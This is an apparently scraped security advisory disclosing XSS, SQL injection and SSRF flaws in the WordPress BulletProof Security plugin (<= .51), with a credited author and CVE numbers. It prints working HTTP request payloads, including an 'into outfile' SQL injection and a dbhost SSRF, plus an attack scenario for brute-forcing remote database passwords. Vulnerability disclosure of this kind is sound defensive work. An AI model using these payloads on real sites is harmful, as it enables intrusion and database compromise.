WordPress Bulletproof-Security .51 XSS / SQL Injection / SSRF

Credit: Pietro Oliva
Risk: Medium
Local: No
Remote: Yes

Vulnerability title: Wordpress bulletproof-security <=.51 multiple vulnerabilities Author: Pietro Oliva CVE: CVE-2014-7958, CVE-2014-7959, CVE-2014-8749 Vendor: AITpro Product: bulletproof-security Affected version: bulletproof-security <= .51 Vulnerabilities fixed in version: .51.1 Details: xss vulnerability (CVE-2014-7958): POST /wp-content/plugins/bulletproof-security/admin/htaccess/bpsunlock.php HTTP/1.1 dbname=&dbuser=&dbpassword=&dbhost=%3Cscript%3Ealert%28%27xss%27%29%3C%2Fscript%3E&tableprefix=&username=&Login-Security-Unlock=Unlock+User+Account SQL injection vulnerability (CVE-2014-7959, correct db username and password is required in order to exploit this): POST /wordpress/wp-content/plugins/bulletproof-security/admin/htaccess/bpsunlock.php HTTP/1.1dbname=information_schema&dbuser=root&dbpassword=password&dbhost=&tableprefix=tables+into+outfile+'/tmp/tables'%3b+--+&username=&Login-Security-Unlock=Unlock+User+Account SSRF vulnerability (CVE-2014-8749) POST /wp-content/plugins/bulletproof-security/admin/htaccess/bpsunlock.php HTTP/1.1 dbname=&dbuser=root&dbpassword&dbhost=remotedatabase.com&tableprefix=&username=&Login-Security-Unlock=Unlock+User+Account Possible scenario: - the user sends a request with username, password, host and other parameters to the vulnerable page - the server doesn't check the host parameter to be in a whitelist of permitted databases - the server performs an authentication request to a remote or internal network database and gives back to the attacker the authentication result -After n attemps the attacker has bypassed access restrictions (if any) to the remote database, discovered the remote database password, and made it appear bulletproof-security as the source of the attack. Extra step: -Ifthe sql injection flaw (CVE-2014-7959) is not fixed, an attacker could also execute arbitrary sql statement on the remote server, as the vulnerable page executes a query if the authentication is successful (without filtering or useprepared statements). The source of the attack would appear to be the bulletproof-security vulnerable site.

Vote for this issue:


Thanks for you vote!


Thanks for you comment!
Your message is in quarantine 48 hours.

Comment it here.

(*) - required fields.
{{ x.nick }} |Date: {{ x.ux * 1000 | date:'yyyy-MM-dd' }} {{ x.ux * 1000 |date:'HH:mm' }} CET+1
{{ x.comment }}

Copyright 2020, cxsecurity.com


Back to Top